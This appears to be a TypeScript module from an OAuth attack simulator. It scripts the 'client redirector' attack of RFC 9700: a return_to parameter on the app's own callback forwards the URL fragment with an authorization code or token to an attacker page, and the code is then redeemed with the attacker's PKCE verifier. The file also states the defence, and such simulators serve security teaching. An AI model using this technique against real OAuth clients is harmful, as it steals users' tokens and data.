import type { Attack, Script, ScriptStep, Variant } from './attack'
import { authorizeUrl, MALLORYS_VERIFIER, WITHOUT_CHALLENGE } from './authorize-url'
import {
  type AttackedClient,
  aliceIsSentToAsk,
  answerArrives,
  COLLECTING_PAGE,
  callbackOf,
  forgedRequest,
  fragmentIsRead,
} from './lures'
import { malloryRedeems } from './parts'
import { postForm } from './requests'
import { readsPhotos } from './stolen-token'
import type { AttackTools } from './tools'

/** The application's own callback, with a wish of Mallory's behind it: no foreign host in sight. */
function forwarding({ origins }: Pick<AttackTools, 'origins'>, client: AttackedClient): string {
  const wish = encodeURIComponent(`${origins.attacker}${COLLECTING_PAGE}`)
  return `${callbackOf(origins, client)}?return_to=${wish}`
}

const asks = forgedRequest(
  {
    title: 'The request names the app’s own callback',
    caption:
      'redirect_uri is the right callback, with return_to behind it. A server that compares the beginning sees no difference.',
  },
  {
    title: 'The answer goes to the app, behind #',
    caption: 'The host is right and the path is right. The answer stands in the fragment, where no server looks.',
  },
)

const forwarded: ScriptStep = {
  step: 'forwarded-callback',
  phase: 'strike',
  from: 'browser',
  to: 'client',
  channel: 'front',
  line: 'GET /callback?return_to=…',
  move: 'follow-redirect',
  expects: ['redirect-to-client'],
  cites: ['rfc9700-4.11.1', 'rfc9110-10.2.2'],
  words: {
    title: 'The app is asked to send Alice on',
    caption: 'The app’s callback sees only return_to: a page to go back to, it thinks.',
  },
  reply: {
    title: 'The app sends her to Mallory',
    caption:
      'The Location has no fragment of its own, so the browser takes the old one along: with everything the server put in it.',
  },
}

const arrives = answerArrives({
  title: 'Alice’s browser comes to Mallory’s page',
  caption: 'The browser has carried the fragment through both redirects. The request for the page does not show it.',
})

function redeem(tools: AttackTools, clientId: AttackedClient) {
  const code = tools.need('authorization_code', 'No code has come to Mallory’s site.', 'site')
  const { client_id } = tools.client(clientId)
  const parameters = { grant_type: 'authorization_code', code, redirect_uri: forwarding(tools, clientId), client_id }
  return postForm(`${tools.origins.issuer}/token`, { ...parameters, code_verifier: MALLORYS_VERIFIER })
}

function codeForwarded(clientId: AttackedClient): Variant {
  const script: Script = [
    aliceIsSentToAsk((tools) =>
      authorizeUrl(tools, clientId, { redirect_uri: forwarding(tools, clientId), response_mode: 'fragment' }),
    ),
    asks,
    forwarded,
    arrives,
    fragmentIsRead('authorization_code'),
    malloryRedeems(
      {
        title: 'Mallory redeems the code',
        caption: 'Mallory repeats the redirect_uri. The challenge in the request was hers, so she has its verifier.',
      },
      (tools) => redeem(tools, clientId),
    ),
    readsPhotos('answer'),
  ]
  return { cases: [{ id: 'usual', title: 'The code is asked for behind #', script }] }
}

const tokenForwarded: Script = [
  aliceIsSentToAsk((tools) =>
    authorizeUrl(tools, 'photo-gallery', {
      ...WITHOUT_CHALLENGE,
      response_type: 'token',
      redirect_uri: forwarding(tools, 'photo-gallery'),
    }),
  ),
  asks,
  forwarded,
  arrives,
  fragmentIsRead('access_token'),
  readsPhotos('site'),
]

/** RFC 9700, sections 4.1.2 and 4.11.1. */
export const clientRedirector: Attack = {
  id: 'A-03',
  slug: 'client-redirector',
  tier: 1,
  title: 'The app forwards the answer to Mallory',
  summary:
    'Mallory adds a return address to the app’s own callback; the app sends Alice’s browser there, and the fragment with code or token goes along.',
  attacker: 'Somebody with a web page that Alice visits, and an app that forwards browsers to any address.',
  defence: 'The app forwards to its own pages only, and redirect_uri is compared in full, the query included.',
  cites: ['rfc9700-4.11.1', 'rfc9700-4.1.2', 'rfc9110-10.2.2'],
  oracle: 'reads-data',
  switches: {
    redirectMatching: 'prefix',
    openRedirector: true,
    implicit: true,
    clientAuthenticationRequired: false,
  },
  needs: ['browser-takes-part', 'user-data-read'],
  on: {
    'authorization-code': codeForwarded('photo-editor'),
    'authorization-code-browser': codeForwarded('photo-gallery'),
    implicit: { cases: [{ id: 'usual', title: 'A token behind #', script: tokenForwarded }] },
  },
}
